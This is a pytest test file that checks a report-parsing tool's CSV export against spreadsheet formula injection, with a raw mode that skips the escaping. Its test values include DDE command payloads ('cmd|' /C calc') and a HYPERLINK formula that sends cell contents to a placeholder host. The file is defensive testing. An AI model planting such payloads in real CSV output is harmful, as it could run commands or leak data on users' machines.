"""CSV cells a spreadsheet would run as formulas are written as text (OWASP), unless raw."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from conftest import SEEDS
from peelparse._cli import main

FIRST_AFI = "The force should ensure that it has effective systems"
SECOND_AFI = "The force should ensure that its promotion processes"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"click")',
            '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("The force should", "The force should"),
        ("a = b", "a = b"),
        (-3, -3),
        (None, None),
    ],
)
def test_cells_that_start_like_formulas(value: object, written: object) -> None:
    from peelparse._export import safe_cell

    assert safe_cell(value) == written


def _hostile_report(folder: Path) -> Path:
    text = SEEDS[2].read_text("utf-8")
    assert FIRST_AFI in text and SECOND_AFI in text
    text = text.replace(FIRST_AFI, '=HYPERLINK("http://x.example","see") the force should')
    text = text.replace(SECOND_AFI, "+cmd|' /C calc'!A0 and @SUM(1) the force should")
    path = folder / "report.txt"
    path.write_text(text, "utf-8")
    return path


def _findings(folder: Path) -> list[str]:
    with (folder / "findings.csv").open(encoding="utf-8", newline="") as rows:
        return [row["text"] for row in csv.DictReader(rows)]


def test_exported_findings_cannot_run_as_formulas(tmp_path: Path) -> None:
    report = _hostile_report(tmp_path)
    assert main(["export", str(report), "--to", "csv", str(tmp_path / "safe")]) == 0
    texts = _findings(tmp_path / "safe")
    assert len(texts) == 2
    assert texts[0].startswith("'=HYPERLINK(")
    assert texts[1].startswith("'+cmd|")
    assert not any(t[:1] in "=+-@\t\r" for t in texts)
    assert main(["export", str(report), "--to", "csv", str(tmp_path / "raw"), "--csv-raw"]) == 0
    raw = _findings(tmp_path / "raw")
    assert raw[0].startswith("=HYPERLINK(") and raw[1].startswith("+cmd|")
